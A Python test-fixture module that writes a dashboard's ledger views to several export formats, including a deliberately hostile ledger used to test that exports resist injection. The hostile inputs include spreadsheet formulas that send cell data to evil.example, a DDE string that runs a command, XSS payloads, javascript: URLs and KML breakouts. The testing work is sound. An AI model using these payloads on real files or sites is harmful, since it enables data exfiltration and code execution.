"""What the tests of the data formats share: Views of three ledgers, one of them full of hostile text, and what is read back."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path

from dashboard.snapshot.contents import Contents, contents_of
from dashboard.snapshot.formats import FORMATS
from dashboard.snapshot.manifest import Manifest, make_manifest
from data.store import open_ledger
from data.store.ledger import SHIPPED
from data.view import View
from tests.ledgers import large, made_up

PROJECT = Path(__file__).resolve().parents[3]
TABLES = ("geojson", "csv", "xlsx", "gpkg", "kml", "parquet")
LONG = "x" * 40_000
# 33,000 units of UTF-16 in 16,600 characters.
LONG_EMOJI = "\N{GRINNING FACE}" * 16_300 + "x" * 300
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\ttab", "\nfeed", "\r\nreturn",
    "'quoted", "''twice", "'=guarded", "＝1+1", "'", "=", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "]]><Placemark><name>false</name></Placemark>", '</value></Data><Data name="greyline_manifest"><value>{}',
    "<![CDATA[<b>bold</b>]]>", "&lt;b&gt; &amp; &#60;", "$[description] $[claims/words]", "<!-- -->",
    "\x01\x08\x0b\x0c\x1b[31m\x1f\x7f\x85", "\u202eright to left\u2066", "\ufeff\u200b\u00ad", "\ufffe\uffff", "\u2028\u2029",
    '"quoted", and "more"', "line\nline\r\nline", "\N{GRINNING FACE}\U0001f1fa\U0001f1e6", "_x000D_ _x0041__x005F_",
    "#N/A", "TRUE", "1e5", "007", "NA", "null", " spaces ", "{{ 7*191 }}", '{"greyline":{}}', '"seal":"' + "0" * 64 + '"',
    "\\u0000 \\n \\", LONG, LONG_EMOJI,
)  # fmt: skip


@cache
def shipped() -> Contents:
    """All of the shipped ledger."""
    return contents_of(open_ledger(SHIPPED), View())


@cache
def small() -> Contents:
    """The made-up ledger."""
    with tempfile.TemporaryDirectory() as folder:
        return contents_of(open_ledger(made_up().write(Path(folder))), View())


@cache
def hostile() -> Contents:
    """A ledger with a claim for each of HOSTILE, in whose summary it stands, and more of them in names and titles."""
    ledger = large(len(HOSTILE))
    for number, text in enumerate(HOSTILE):
        ledger.spoil("claims.csv", number, summary=text, words=f"={number}")
    names = ("=cmd|' /C calc'!A0", '<b onclick="x">Army & "Sons"</b>', "]]>", "$[description]", "'Apostrophe")
    for number, name in enumerate(names):
        ledger.spoil("sources.csv", number, name=name)
    titles = ('=IMPORTXML("http://evil.example")', "</Document></kml>\x1b")
    for number, title in enumerate(titles):
        ledger.spoil("documents.csv", number, title=title, publisher=title, url="javascript:alert(1)")
    with tempfile.TemporaryDirectory() as folder:
        return contents_of(open_ledger(ledger.write(Path(folder))), View())


@cache
def empty() -> Contents:
    """A View of no source at all."""
    return contents_of(open_ledger(SHIPPED), View(sources=()))


VIEWS = (shipped, small, hostile, empty)


def manifest_of(contents: Contents, name: str) -> Manifest:
    """The manifest of an export."""
    return make_manifest(contents, name)


@cache
def written(view, name: str) -> bytes:
    """A View in one format."""
    contents = view()
    return FORMATS[name].write(contents, manifest_of(contents, name))


def ids(contents: Contents) -> list[str]:
    """The ids of the claims shown."""
    return [claim.claim_id for claim in contents.claims]


ELSEWHERE = """
import sys
from pathlib import Path
from tests.dashboard.snapshot.exports import TABLES, hostile, written
for name in TABLES:
    (Path(sys.argv[1]) / name).write_bytes(written(hostile, name))
"""


@cache
def written_elsewhere(seed: str) -> dict[str, bytes]:
    """The hostile View in every format, written by another process with another order of its hashes and another clock."""
    with tempfile.TemporaryDirectory() as folder:
        settings = {**os.environ, "PYTHONHASHSEED": seed, "TZ": "Asia/Tokyo" if seed == "1" else "America/Lima"}
        subprocess.run([sys.executable, "-c", ELSEWHERE, folder], cwd=PROJECT, env=settings, check=True)
        return {name: (Path(folder) / name).read_bytes() for name in TABLES}
